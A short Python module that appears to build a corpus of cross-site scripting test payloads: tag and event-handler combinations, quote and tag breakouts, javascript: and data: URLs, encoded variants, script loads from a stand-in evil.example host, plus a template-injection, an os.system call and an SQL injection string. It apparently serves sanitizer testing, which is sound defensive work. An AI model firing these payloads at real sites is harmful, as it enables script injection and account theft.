"""Scripts as people try to smuggle them in: tags, handlers, addresses, entities, and the ends of whatever they may
stand in.
"""

from itertools import product

CALL = "alert(1)"

_TAGS = ("img", "svg", "body", "video", "audio", "iframe", "object", "embed", "details", "marquee", "input", "style")
_HANDLERS = ("onerror", "onload", "ontoggle", "onstart", "onfocus", "onmouseover", "onanimationstart", "onpointerenter")
_TAGGED = [f"<{tag} src=x {handler}={CALL}>" for tag, handler in product(_TAGS, _HANDLERS)]

_ENDS = (
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "${",
    "\\",
    "</text>",
    "</svg>",
)
_STARTS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f" onfocus={CALL} autofocus ",
    f"<svg/onload={CALL}>",
)
_BROKEN_OUT = [f"{end}{start}" for end, start in product(_ENDS, _STARTS)]

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
)
_ADDRESSES = [
    f"{before}{scheme}{CALL}" for scheme, before in product(_SCHEMES, ("", '<a href="', "<iframe src=", "[x](", "url("))
]

_ODD = [
    "<script src=//evil.example/x.js></script>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<foreignObject><body onload=alert(1)></foreignObject>",
    "<use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<animate onbegin=alert(1) attributeName=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>alert(1)//<</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{name}{0}{reason}%s%(x)s",
    "__proto__",
    "constructor",
    "data-do",
    "';alert(1)//",
    '");alert(1);("',
    "<?xml version='1.0'?><x/>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "__import__('os').system('true')",
    "' or 1=1 --",
]

PAYLOADS = [*_TAGGED, *_BROKEN_OUT, *_ADDRESSES, *_ODD]
